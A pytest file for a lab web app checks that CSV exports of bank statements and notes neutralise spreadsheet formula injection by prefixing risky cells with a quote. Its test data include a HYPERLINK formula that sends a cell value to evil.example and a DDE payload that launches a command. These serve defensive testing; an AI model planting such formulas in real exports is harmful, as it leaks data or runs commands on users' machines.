"""CSV exports cannot carry a formula into a spreadsheet (OWASP "CSV Injection"): a text cell that
starts with = + - @ TAB or CR is written with a leading single quote, so a spreadsheet shows it as
text. The bank statement and the notes' CSV page, over real sockets on 127.0.0.1."""

from __future__ import annotations

import csv
import io

import pytest
import requests

from labkit.server.validate import csv_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Refund")', "+1+2", "-3+4", "@SUM(1,2)"]
SAFE = ["Shop", "Caf\u00e9 = good", "a-b", "'quoted'"]


@pytest.mark.parametrize("text", FORMULAS + ["\tcmd", "\rcmd"])
def test_a_formula_cell_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", SAFE + [5, -5, 1.5, ""])
def test_other_cells_are_unchanged(value):
    assert csv_cell(value) == value


def _csv(response: requests.Response) -> list[dict]:
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def test_the_bank_statement_neutralises_formula_payees(lab):
    account = requests.post(lab.url + "/api/accounts", json={"owner": "Ann", "opening_balance": 10_000},
                            timeout=10).json()["id"]
    for payee in FORMULAS + SAFE:
        assert requests.post(lab.url + "/api/payments", json={"account": account, "payee": payee,
                                                              "amount": 1}, timeout=10).status_code == 201
    rows = _csv(requests.get(f"{lab.url}/api/accounts/{account}/statement",
                             headers={"Accept": "text/csv"}, timeout=10))
    assert [r["payee"] for r in rows] == ["'" + p for p in FORMULAS] + SAFE
    assert all(r["amount"] == "1" for r in rows)
    as_json = requests.get(f"{lab.url}/api/accounts/{account}/statement", timeout=10).json()
    assert [p["payee"] for p in as_json] == FORMULAS + SAFE  # JSON carries the data unchanged


def test_the_notes_csv_neutralises_formula_cells(lab):
    note = {"title": "=1+1", "body": "\t=cmd|' /C calc'!A0", "tags": ["@x", "-y", "ok"], "votes": -5}
    assert requests.post(lab.url + "/api/notes", json=note, timeout=10).status_code == 201
    (row,) = _csv(requests.get(lab.url + "/api/notes", headers={"Accept": "text/csv"}, timeout=10))
    assert row["title"] == "'=1+1"
    assert row["body"] == "'\t=cmd|' /C calc'!A0"
    assert row["tags"] == "'@x;-y;ok"
    assert row["votes"] == "-5"  # a number stays a number
